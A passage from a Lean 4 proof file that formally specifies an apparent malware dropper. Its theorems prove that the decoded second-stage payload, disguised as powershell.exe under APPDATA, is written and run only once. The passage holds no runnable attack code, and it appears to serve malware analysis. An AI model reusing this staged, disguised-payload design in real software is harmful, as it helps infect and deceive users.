  exact ⟨h0, (spec_C9 [] "R" fsEmpty).1 h0, h1, h2,
    ((spec_C9 sampleOneRegion "R" fsEmpty).2 0 h1 h2).2⟩

/-- C10: the second-stage payload is write-once: when
`APPDATA\hollus\powershell.exe` already exists, its contents are left
unchanged, nothing is executed with `subprocess.run`, and nothing is
written to that path — the freshly decoded second payload is
discarded. -/
theorem spec_C10 (content : List Nat) (roaming : String) (fs : FsState) (c0 : List Nat)
    (hexe : fs.exeContent = some c0) :
    (dropper content roaming fs).2.exeContent = some c0
    ∧ (∀ p sh, Effect.runShell p sh ∉ (dropper content roaming fs).1)
    ∧ (∀ bs, Effect.writeFile (exePath roaming) bs ∉ (dropper content roaming fs).1) := by
  cases h1 : firstStartPos content with
  | none => simp [dropper, h1, hexe]
  | some s1 =>
    have hss := secondStage_exists_skip content roaming s1 true c0
    refine ⟨?_, ?_, ?_⟩
    · simp [dropper, h1, hexe, hss]
    · intro p sh
      cases hdir : fs.hollusDir <;>
        simp [dropper, h1, hexe, hss, hdir, stage1Effects]
    · intro bs
      cases hdir : fs.hollusDir <;>
        simp [dropper, h1, hexe, hss, hdir, stage1Effects,
          Ne.symm (activatePath_ne_exePath roaming)]

theorem spec_C10_witness :
    fsWithExe.exeContent = some [1, 2]
    ∧ (dropper sampleContent "R" fsWithExe).2.exeContent = some [1, 2]
    ∧ Effect.runShell (exePath "R") true ∉ (dropper sampleContent "R" fsWithExe).1
    ∧ Effect.writeFile (exePath "R") (payloadAt sampleContent 64)
        ∉ (dropper sampleContent "R" fsWithExe).1 := by
  have h := spec_C10 sampleContent "R" fsWithExe [1, 2] rfl
  exact ⟨rfl, h.1, h.2.1 (exePath "R") true, h.2.2 (payloadAt sampleContent 64)⟩
